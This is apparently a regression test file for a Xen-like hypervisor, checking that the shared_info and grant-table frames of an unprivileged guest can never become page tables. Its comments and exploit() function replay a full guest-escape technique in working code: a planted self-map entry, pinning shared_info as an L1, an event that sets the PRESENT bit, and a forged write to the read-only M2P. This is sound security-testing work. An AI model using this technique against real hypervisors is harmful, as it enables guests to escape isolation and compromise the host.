/*
 * shared-frames: the frames the hypervisor writes behind a guest's back
 * -- its shared_info page and its grant-table frames -- can never become
 * page tables.  Runs as an unprivileged domain (d1); domain 0 waits.
 *
 * Background.  Those frames are hypervisor-heap pages the domain owns so
 * that it may map them; the hypervisor writes them directly (event bits,
 * time, grant flags) without any page-table check.  If one of them could
 * be typed as a page table, a hypervisor write would turn a checked,
 * non-present entry into a present one nobody checked.  The attack this
 * test replays, step by step, from an unprivileged domain:
 *
 *   1. write into shared_info, through an ordinary writable mapping, a
 *      NON-present entry that maps shared_info itself writable -- at
 *      entry 257, bytes 2056..2063, whose bit 0 is evtchn_pending bit 64;
 *   2. drop the mapping and pin shared_info as an L1 (validation accepts
 *      it: the entry is not present), and link it from an L2 entry;
 *   3. send an event on port 64: the hypervisor sets the pending bit,
 *      i.e. PRESENT, and the live L1 now maps shared_info writable;
 *   4. through that mapping write an entry mapping an M2P frame writable,
 *      and write the "read-only" M2P.
 *
 * The rule that stops it (as in Xen): such frames hold a permanent
 * writable type reference from the moment they are shared, so every
 * request for a table type (pin L1/L2/L3, an L2 or L3 entry linking them,
 * a new base pointer) is a type conflict: -EINVAL.  The same for the
 * frames of GNTTABOP_setup_table (a hypercall fuzzer's find).  Mapping
 * them writable stays allowed -- that is what guests do with them.  The
 * harness checks the teardown returns every frame and the auditor passes.
 */
#include <pt.h>
#include <events.h>
#include <grant.h>
#include <public/memory.h>

#define ATTACK_PORT   64u           /* evtchn_pending bit 64 ... */
#define ATTACK_ENTRY  257u          /* ... is bit 0 of shared_info's entry 257 */
#define FORGED_ENTRY  258u          /* where the forged L1 maps the M2P */
#define TRIES         8

/* A 2 MiB-aligned VA whose L2 entry is not present, in a present L3 slot. */
static uint32_t unused_l2_region(uint32_t *l2_mfn)
{
    uint64_t e[3];

    for (uint32_t va = (mapped_end() + (2u << 20)) & ~((2u << 20) - 1);
         va < 0xf5000000u; va += 2u << 20)
        if (walk_any(va, e) == 2) {
            *l2_mfn = PTE_MFN(e[0]);
            return va;
        }
    return 0;
}

/* Prepare shared_info as the attack needs it: nothing present but the
 * hypervisor's own words, entry 257 = a non-present writable self-map. */
static void plant(uint32_t si)
{
    volatile uint64_t *t = scratch_map(0, si, _PAGE_PRESENT | _PAGE_RW);
    volatile shared_info_t *s = (volatile shared_info_t *)t;

    for (unsigned int i = 0; i < 512; i++)
        t[i] = 0;
    for (unsigned int v = 0; v < XEN_LEGACY_MAX_VCPUS; v++)
        s->vcpu_info[v].evtchn_upcall_mask = 1;       /* bit 8: never PRESENT */
    t[ATTACK_ENTRY] = PTE(si, _PAGE_RW | _PAGE_USER | _PAGE_ACCESSED | _PAGE_DIRTY);
    scratch_restore(0);
}

/* The rest of the attack, only reached if the pin was accepted. */
static void exploit(uint32_t si)
{
    uint32_t l2 = 0, region = unused_l2_region(&l2), m2pframe[1];
    xen_machphys_mfn_list_t ml = { .max_extents = 1 };
    long port = 0;

    if (!region) {
        test_error("no unused L2 entry to link the forged L1 from");
        return;
    }
    if (mmu1(MADDR(l2, L2_INDEX(region)), PTE(si, _PAGE_PRESENT | _PAGE_RW | _PAGE_USER |
                                             _PAGE_ACCESSED))) {
        printf("linking shared_info from an L2 entry was refused\n");
        return;
    }
    while (port >= 0 && port < (long)ATTACK_PORT)
        port = evtchn_bind_ipi(0);
    if (port != (long)ATTACK_PORT) {
        test_error("cannot get port %u (%ld)", ATTACK_PORT, port);
        return;
    }
    evtchn_send(ATTACK_PORT);                /* the hypervisor sets PRESENT */
    volatile uint64_t *forged = (volatile uint64_t *)(region + ATTACK_ENTRY * PAGE_SIZE);
    invlpg((uint32_t)forged);
    if (!(forged[ATTACK_ENTRY] & _PAGE_PRESENT)) {
        test_fail("pinned shared_info as an L1; the event did not make the entry present");
        return;
    }
    set_xen_guest_handle(ml.extent_start, m2pframe);
    if (HYPERVISOR_memory_op(XENMEM_machphys_mfn_list, &ml) || !ml.nr_extents) {
        test_error("no M2P frame list");
        return;
    }
    forged[FORGED_ENTRY] = PTE(m2pframe[0], _PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED |
                                            _PAGE_DIRTY);
    volatile uint32_t *m2pw = (volatile uint32_t *)(region + FORGED_ENTRY * PAGE_SIZE);
    invlpg((uint32_t)m2pw);
    m2pw[0] = m2pw[0];                       /* a write to the read-only M2P */
    test_fail("ESCAPE: shared_info became a live L1 of unchecked entries: wrote M2P frame "
              "0x%x through a forged writable mapping", m2pframe[0]);
    /* Leave it pinned and linked: the teardown and the auditor must see it. */
}

/* Every way to make mfn a page table is refused; undone if one is not. */
static void table_types_refused(uint32_t mfn, const char *what)
{
    uint32_t l2 = 0, region = unused_l2_region(&l2), l3 = current_l3_mfn();
    long rc;

    for (unsigned int level = 1; level <= 3; level++) {
        rc = pin(level, mfn);
        CHECK(rc == -XEN_EINVAL, "pin %s as an L%u: %ld, expected -EINVAL", what, level, rc);
        if (rc == 0)
            unpin(mfn);
    }
    CHECK_RC(new_baseptr(mfn), -XEN_EINVAL, "new_baseptr");
    if (region) {
        rc = mmu1(MADDR(l2, L2_INDEX(region)), PTE(mfn, _PAGE_PRESENT | _PAGE_ACCESSED));
        CHECK(rc == -XEN_EINVAL, "an L2 entry linking %s as an L1: %ld", what, rc);
        if (rc == 0)
            mmu1(MADDR(l2, L2_INDEX(region)), 0);
    }
    for (unsigned int slot = 0; slot < 3; slot++) {
        uint64_t e[3];
        if (walk_any(slot << 30, e) != 3)
            continue;                        /* in use: leave it alone */
        rc = mmu1(MADDR(l3, slot), PTE(mfn, _PAGE_PRESENT));
        CHECK(rc == -XEN_EINVAL, "an L3 entry linking %s as an L2: %ld", what, rc);
        if (rc == 0)
            mmu1(MADDR(l3, slot), 0);
        break;
    }
    CHECK_RC(HYPERVISOR_update_va_mapping(gnt_slot_va(1), PTE(mfn, _PAGE_PRESENT | _PAGE_RW |
             _PAGE_ACCESSED), UVMF_INVLPG), 0, "mapping it writable (allowed)");
    scratch_restore(1);
}

void test_main(void)
{
    uint32_t si = start_info->shared_info >> 12;
    struct gnttab_setup_table setup = { .dom = DOMID_SELF, .nr_frames = 2 };
    xen_pfn_t gframes[2];
    long rc = -1;

    /* The grant-frame variant first: it leaves nothing behind either way. */
    set_xen_guest_handle(setup.frame_list, gframes);
    rc = HYPERVISOR_grant_table_op(GNTTABOP_setup_table, &setup, 1);
    if (rc || setup.status != GNTST_okay) {
        test_error("setup_table: %ld status %d", rc, setup.status);
        return;
    }
    for (unsigned int i = 0; i < 2; i++) {
        printf("grant frame %u: mfn 0x%x\n", i, (uint32_t)gframes[i]);
        table_types_refused((uint32_t)gframes[i], "a grant-table frame");
    }

    /* The attack: plant, pin, link, send. */
    rc = -1;
    for (unsigned int i = 0; i < TRIES && rc; i++) {
        plant(si);
        rc = pin(1, si);
        printf("attempt %u: pin shared_info (mfn 0x%x) as an L1: %ld\n", i, si, rc);
        if (rc != -XEN_EINVAL)
            break;
        /* -EINVAL is also what a time update racing the plant would give:
         * try again, but the fixed hypervisor refuses every time. */
    }
    if (rc == 0) {
        test_fail("shared_info was pinned as an L1 (a hypervisor-heap frame became a page "
                  "table)");
        exploit(si);
        return;
    }
    CHECK(rc == -XEN_EINVAL, "pin shared_info as an L1: %ld, expected -EINVAL", rc);
    table_types_refused(si, "shared_info");
    test_success();
}
